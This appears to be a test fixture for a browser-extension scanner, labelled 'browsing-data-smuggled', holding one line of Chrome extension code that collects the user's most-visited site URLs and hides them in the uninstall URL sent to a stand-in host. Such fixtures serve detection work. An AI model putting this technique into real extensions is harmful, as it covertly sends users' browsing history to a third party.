// expect: browsing-data-smuggled
chrome.topSites.get(s=>chrome.runtime.setUninstallURL('https://bye.tabtool.example/?s='+encodeURIComponent(s.map(x=>x.url).join(','))));
